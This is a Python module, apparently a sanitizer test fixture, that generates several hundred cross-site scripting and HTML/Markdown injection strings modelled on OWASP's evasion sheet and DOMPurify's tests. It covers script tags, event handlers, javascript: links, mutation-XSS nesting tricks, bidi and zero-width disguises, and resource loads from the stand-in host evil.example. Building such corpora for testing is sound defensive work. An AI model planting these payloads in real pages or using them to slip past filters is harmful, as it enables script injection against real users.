"""Five hundred and more hostile texts: what runs scripts or fetches things where it is let.

Forms by ways to disguise them; each calls `hacked(n)` or asks something of evil.example, under its
own number. Forms after OWASP's filter evasion sheet and the mutations of DOMPurify's own tests.
"""

from collections.abc import Sequence
from html import escape

EVIL = "https://evil.example"
FORMS = (
    "<script>{js}</script>",
    "<script src={url}/s.js></script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script\t>{js}</script\n>",
    "<img src=x onerror={js}>",
    "<img src=x:x onerror='{js}'>",
    "<img/src='x'/onerror={js}>",
    '<img src="{url}/i.png" alt="">',
    "<img srcset='{url}/i.png 1x'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><image href='{url}/i.svg'></image></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></math>",
    "<math href='javascript:{js}'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<style><style /><img src=x onerror={js}>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "<body onload={js}>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<video src=x onerror={js}></video>",
    "<video poster={url}/p.png></video>",
    "<audio src=x onerror={js}></audio>",
    "<audio src={url}/a.ogg autoplay></audio>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<iframe src={url}/f></iframe>",
    "<object data={url}/o></object>",
    "<embed src={url}/e>",
    "<link rel=stylesheet href={url}/c.css>",
    "<style>@import '{url}/c.css';</style>",
    "<div style='background:url({url}/b.png)'>x</div>",
    "<a href='javascript:{js}'>x</a>",
    "<a href='jav&#x09;ascript:{js}'>x</a>",
    "<a href=' &#14;  javascript:{js}'>x</a>",
    "<button onclick={js}>x</button>",
    "<marquee onstart={js}>x</marquee>",
    "<p onpointerenter={js} onclick={js}>x</p>",
    "<template><img src=x onerror={js}></template><img src=x onerror={js}>",
    "![x]({url}/i.png)",
    "![x][ref]\n\n[ref]: {url}/i.png",
    "[x](javascript:{coded})",
    "[x](JaVaScRiPt:{coded})",
    "[x](java\tscript:{coded})",
    "[x](<javascript:{coded}>)",
    "[x][ref]\n\n[ref]: javascript:{coded}",
    '[x](https://shop.example/"onclick="{js})',
    "<javascript:{js}>",
    "[![x]({url}/i.png)](javascript:{coded})",
)
DISGUISES = (
    "{}",
    "**bold {} bold**",
    "- item\n- {}\n",
    '"><b>{}',
    "text --> ]]> </title></textarea></style> {}",
    "### {}",
    "> {}",
    "{}\u200b\u202e",
    "<div>{}</div><!--",
)


def corpus() -> Sequence[str]:
    """As they come, and the form alone once more with its brackets as entities."""
    texts: list[str] = []
    for form in FORMS:
        for disguise in DISGUISES:
            texts.append(disguise.format(_numbered(form, len(texts))))
        texts.append(escape(_numbered(form, len(texts)), quote=False))
    return texts


def _numbered(form: str, number: int) -> str:
    """`{coded}`: without brackets, which would end a Markdown link's address."""
    js, coded, url = f"hacked({number})", f"hacked%28{number}%29", f"{EVIL}/{number}"
    return form.replace("{js}", js).replace("{coded}", coded).replace("{url}", url)
